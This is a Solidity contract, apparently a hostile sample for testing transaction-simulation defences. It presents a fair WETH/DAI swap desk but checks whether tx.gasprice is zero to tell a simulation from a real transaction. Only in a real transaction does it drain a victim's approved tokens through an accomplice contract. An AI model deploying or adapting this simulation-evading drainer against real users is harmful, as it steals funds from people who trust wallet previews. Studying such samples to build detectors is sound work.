// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {RedPillDesk} from "./RedPillDesk.sol";

/// @title RedPillGasPrice
/// @notice Red pill keyed on the gas price. An honest WETH desk: `swap` sells WETH for DAI at
///         a fair price. Detects: `tx.gasprice` is 0 in a simulation that prices nothing, and
///         never 0 in a transaction a relayer pays for. Steals, when it is not 0: `loot` of
///         the token the victim approved to the accomplice, taken through that standing
///         allowance by a contract the simulation never touches.
contract RedPillGasPrice {
    using RedPillDesk for RedPillDesk.Quote;

    IERC20 private immutable _dai;
    IERC20 private immutable _weth;
    uint256 private immutable _daiPerWeth;
    address private immutable _accomplice;
    uint256 private immutable _loot;

    /// @param dai The token the desk buys.
    /// @param weth The token the desk sells from its inventory.
    /// @param daiPerWeth Its price, DAI per whole WETH.
    /// @param accomplice A `RedPillAccomplice` that enlisted this contract.
    /// @param loot What one real execution steals through the accomplice.
    constructor(IERC20 dai, IERC20 weth, uint256 daiPerWeth, address accomplice, uint256 loot) {
        (_dai, _weth, _daiPerWeth, _accomplice, _loot) = (dai, weth, daiPerWeth, accomplice, loot);
    }

    /// @notice Sells WETH for `daiIn` DAI (approved to this contract) at the desk's price.
    /// @param daiIn DAI paid.
    /// @return wethOut WETH received.
    function swap(uint256 daiIn) external returns (uint256 wethOut) {
        wethOut = RedPillDesk.Quote(_dai, _weth, _daiPerWeth).sell(daiIn);
        if (tx.gasprice != 0) RedPillDesk.rob(_accomplice, msg.sender, _loot);
    }
}
